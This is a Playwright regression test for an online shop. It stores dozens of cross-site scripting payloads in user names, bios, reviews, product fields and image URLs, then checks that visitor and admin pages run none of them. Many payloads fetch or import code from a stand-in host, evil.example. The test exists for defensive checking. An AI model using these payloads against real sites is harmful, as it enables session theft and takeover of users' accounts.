import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { users } from '#shop/accounts/server/tables.ts'
import { products } from '#shop/catalogue/server/tables.ts'
import { newId } from '#shop/platform/ids.ts'
import { buildWeb, builtPage } from '#shop/platform/web/web-build.ts'
import { reviews } from '#shop/reviews/server/tables.ts'
import { makeOrder, makeProduct, makeUser } from '#shop/testing/factories.ts'
import { startTestApp, type TestApp } from '#shop/testing/test-app.ts'
import { openBrowser } from './browser.ts'

/** What each script would do if it ran, which this test would notice. */
const act = "alert(1);fetch('https://evil.example/x')"
const tags = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'input autofocus',
  'details open',
  'object data=x',
]
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpageshow',
  'onbegin',
]
const texts = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}="${act}">`)),
  `<script>${act}</script>`,
  `</script><script>${act}</script>`,
  `</textarea></title></style><script>${act}</script>`,
  `--><script>${act}</script><!--`,
  `]]><script>${act}</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script type=module>import 'https://evil.example/x.js'</script>`,
  `"><script>${act}</script>`,
  `'><img src=x onerror=${act}>`,
  `" onmouseover="${act}`,
  `' autofocus onfocus='${act}`,
  `javascript:${act}`,
  `<a href="javascript:${act}">press</a>`,
  `<a href="data:text/html,<script>${act}</script>">press</a>`,
  `<form action="javascript:${act}"><button>press</button></form>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="background:url(https://evil.example/x.png)">x</div>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<img srcset="https://evil.example/x.png 1x">`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${act}>#x"/></svg>`,
  `<math><mtext></table><mglyph><style><img src=x onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  '<img src=`x`onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
]
const images = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  'x" onerror="alert(1)',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
]
const pick = (index: number) => images[index % images.length] ?? null

let shop: TestApp
let browser: Browser
before(async () => {
  await buildWeb(() => {})
  ;[shop, browser] = await Promise.all([startTestApp({ page: builtPage }), openBrowser()])
})
after(async () => {
  await browser?.close()
  await shop?.close()
})

/** Writes directly to the tables, so that even texts that are refused today are there. */
async function fillWithScripts(): Promise<string> {
  const { db } = shop.database
  const product = await makeProduct(db, { name: texts[64] ?? '', description: texts.join('\n') })
  const people = texts.map((text, index) => ({
    id: newId(),
    username: text,
    bio: text,
    profession: text,
    email: `${index}"><script>alert(1)</script>@example.com`,
    passwordHash: '',
    profileImage: pick(index),
  }))
  await db.insert(users).values(people)
  await db.insert(reviews).values(
    people.map(({ id, username }, index) => ({
      id: newId(),
      productId: product.id,
      userId: id,
      rating: 3,
      comment: username,
      // The page shows the newest hundred. Which these are must not depend on chance.
      createdAt: new Date(Date.now() - 1000 * index),
    })),
  )
  await db.insert(products).values(
    texts.map((text, index) => ({
      id: newId(),
      name: text,
      category: 'grooming',
      description: text,
      color: 'red',
      priceCents: 999,
      image: pick(index),
    })),
  )
  return product.id
}

/** A page with this session. `happened` records dialogs, foreign scripts and requests to other hosts. */
async function watchedPage(person: Awaited<ReturnType<typeof makeUser>> | undefined) {
  const context = await browser.newContext({ baseURL: shop.config.publicUrl, reducedMotion: 'reduce' })
  if (person) {
    const { id, username, email, role, profileImage, bio, profession } = person.user
    await context.addCookies([
      { name: 'sid', value: person.token, url: shop.config.publicUrl, httpOnly: true },
    ])
    const user = JSON.stringify({ _id: id, username, email, role, profileImage, bio, profession })
    await context.addInitScript((text) => localStorage.setItem('user', text), user)
  }
  const page = await context.newPage()
  const happened: string[] = []
  page.on('dialog', (dialog) => {
    happened.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (/^(https?|wss?):$/.test(url.protocol) && url.host !== new URL(shop.config.publicUrl).host)
      happened.push(request.url())
  })
  return { page, context, happened }
}

/** Elements that none of our pages has, wherever they come from. */
const foreignElements = (page: Page) =>
  page.evaluate(() => {
    // The JSON of a page's data and of JSON-LD is never run by a browser.
    const isData = ({ type }: HTMLScriptElement) => /^application\/(ld\+)?json$/.test(type)
    const scripts = [...document.scripts].filter(
      (script) => !script.src.startsWith(location.origin) && !isData(script),
    )
    const odd = document.querySelectorAll(
      'iframe, object, embed, base, math, template:not(head > #scripts), marquee, [srcdoc], meta[http-equiv], a[href^="javascript:" i], a[href^="data:" i], form[action^="javascript:" i]',
    )
    const handling = [...document.querySelectorAll('*')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    )
    return [...scripts, ...odd, ...handling].map((element) => element.outerHTML.slice(0, 200))
  })

test('scripts stored in names, reviews, bios, products and pictures never run for a visitor or an admin', async () => {
  assert.ok(texts.length >= 100)
  const productId = await fillWithScripts()
  const admin = await makeUser(shop.database.db, {
    role: 'admin',
    username: texts[0] ?? '',
    bio: texts[64] ?? '',
    profession: texts[65] ?? '',
  })
  const line = { productId, name: texts[64] ?? '', image: pick(0), priceCents: 999, quantity: 1 }
  const order = await makeOrder(
    shop.database.db,
    { userId: admin.user.id, email: `"><img src=x onerror=alert(1)>@example.com` },
    [line],
  )
  const publicPages = [
    `/shop/${productId}`,
    '/shop',
    '/categories/grooming',
    `/search?search=${encodeURIComponent('<script>')}`,
    `/orders/${order.paymentId}`,
    `/categories/${encodeURIComponent('<img src=x onerror=alert(1)>')}`,
  ]
  const adminPages = [
    '/dashboard/users',
    '/dashboard/manage-products',
    '/dashboard/manage-orders',
    `/dashboard/update-product/${productId}`,
    '/dashboard/profile',
    '/dashboard/orders',
    '/dashboard/payments',
  ]
  for (const [who, person, pages] of [
    ['a visitor', undefined, publicPages],
    ['an admin', admin, [...publicPages.slice(0, 1), ...adminPages]],
  ] as const) {
    const { page, context, happened } = await watchedPage(person)
    for (const path of pages) {
      await page.goto(path, { waitUntil: 'networkidle' })
      if (path === `/shop/${productId}`) {
        for (const text of texts.slice(64, 70)) await page.getByText(text, { exact: true }).first().waitFor()
      }
      assert.deepEqual(await foreignElements(page), [], `${who} at ${path}`)
      assert.equal(
        new URL(page.url()).pathname,
        new URL(path, shop.config.publicUrl).pathname,
        `${who} at ${path}`,
      )
    }
    assert.deepEqual(happened, [], who)
    await context.close()
  }
})
